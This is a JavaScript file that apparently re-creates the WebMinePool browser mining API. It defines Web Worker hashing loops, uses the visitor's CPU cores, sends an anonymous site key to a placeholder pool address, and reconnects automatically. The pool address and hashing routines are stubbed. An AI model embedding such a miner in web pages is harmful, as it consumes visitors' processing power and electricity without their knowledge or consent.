/* base.js - corpus re-creation of the WebMinePool browser API (our code). */
var WMP = (function () {
  "use strict";
  var CONFIG = {
    POOL: "%%WS:webminepool%%/",
    WORKER: URL.createObjectURL(new Blob(["(" + function () {
      /*#include sha256.js*/
      /*#include keccak.js*/
      /*#include cnloop.js*/
      var job = null, prep = null, throttle = 0, nonce = 0, total = 0, going = false;
      onmessage = function (ev) {
        if (ev.data.job) { job = ev.data.job; prep = cnPrepare(job); nonce = (Math.random() * 4294967295) >>> 0; }
        if (typeof ev.data.throttle === "number") throttle = ev.data.throttle;
        if (!going && prep) { going = true; spin(); }
      };
      function spin() {
        var t0 = Date.now();
        while (Date.now() - t0 < 100) {
          nonce = (nonce + 1) >>> 0; total++;
          var h = cnTry(prep, nonce);
          if (h) postMessage({ total: total, found: { job_id: job.job_id, nonce: cnNonceHex(nonce), result: toHex(h) } });
        }
        postMessage({ total: total });
        var spent = Date.now() - t0;
        setTimeout(spin, throttle ? spent * throttle / (1 - throttle) : 0);
      }
    }.toString() + ")()"]))
  };
  function Miner(siteKey, params, user) {
    this.siteKey = siteKey;
    this.user = user || null;
    this.params = params || {};
    this.throttle = Math.max(0, Math.min(0.99, this.params.throttle || 0));
    this.logicalProcessors = this.params.threads || navigator.hardwareConcurrency || 4;
    if (this.params.autoThreads) this.logicalProcessors = Math.max(1, (navigator.hardwareConcurrency || 2) - 1);
    this.workers = [];
    this.job = null;
    this.socket = null;
    this.running = false;
    this.hashes = 0;
    this.accepted = 0;
    this.listeners = {};
  }
  Miner.prototype.isMobile = function () {
    return /Android|iPhone|iPad|iPod|Mobile/i.test(navigator.userAgent);
  };
  Miner.prototype.on = function (ev, fn) { (this.listeners[ev] = this.listeners[ev] || []).push(fn); };
  Miner.prototype.trigger = function (ev, data) { (this.listeners[ev] || []).forEach(function (fn) { fn(data); }); };
  Miner.prototype.getHashesPerSecond = function () { return this.hps || 0; };
  Miner.prototype.getTotalHashes = function () { return this.hashes; };
  Miner.prototype.getAcceptedHashes = function () { return this.accepted; };
  Miner.prototype.isRunning = function () { return this.running; };
  Miner.prototype.start = function (mode) {
    if (this.running) return;
    this.running = true;
    this.tabMode = mode || WMP.IF_EXCLUSIVE_TAB;
    this.open();
    for (var i = 0; i < this.logicalProcessors; i++) this.spawn();
  };
  Miner.prototype.stop = function () {
    this.running = false;
    this.workers.forEach(function (w) { w.terminate(); });
    this.workers = [];
    if (this.socket) this.socket.close();
  };
  Miner.prototype.send = function (type, params) {
    if (this.socket && this.socket.readyState === 1) this.socket.send(JSON.stringify({ type: type, params: params }));
  };
  Miner.prototype.open = function () {
    var self = this;
    this.socket = new WebSocket(CONFIG.POOL);
    this.socket.onopen = function () {
      self.send("auth", { site_key: self.siteKey, type: self.user ? "user" : "anonymous", user: self.user, goal: 0 });
    };
    this.socket.onmessage = function (ev) {
      var msg = JSON.parse(ev.data);
      if (msg.type === "job") {
        self.job = msg.params;
        self.workers.forEach(function (w) { w.postMessage({ job: self.job, throttle: self.throttle }); });
      } else if (msg.type === "hash_accepted") {
        self.accepted = msg.params.hashes;
        self.trigger("accepted", msg.params);
      } else if (msg.type === "authed") {
        self.trigger("authed", msg.params);
      }
    };
    this.socket.onclose = function () { if (self.running) setTimeout(function () { self.open(); }, 3000); };
  };
  Miner.prototype.spawn = function () {
    var self = this, w = new Worker(CONFIG.WORKER), prev = 0, at = Date.now();
    w.onmessage = function (ev) {
      var d = ev.data;
      if (d.found) { self.send("submit", d.found); self.trigger("found", d.found); }
      self.hashes += d.total - prev;
      self.hps = (d.total - prev) * 1000 / Math.max(1, Date.now() - at);
      prev = d.total; at = Date.now();
    };
    if (this.job) w.postMessage({ job: this.job, throttle: this.throttle });
    this.workers.push(w);
  };
  return {
    IF_EXCLUSIVE_TAB: "ifExclusiveTab",
    FORCE_EXCLUSIVE_TAB: "forceExclusiveTab",
    FORCE_MULTI_TAB: "forceMultiTab",
    Anonymous: function (siteKey, params) { return new Miner(siteKey, params); },
    User: function (siteKey, user, params) { return new Miner(siteKey, params, user); }
  };
})();
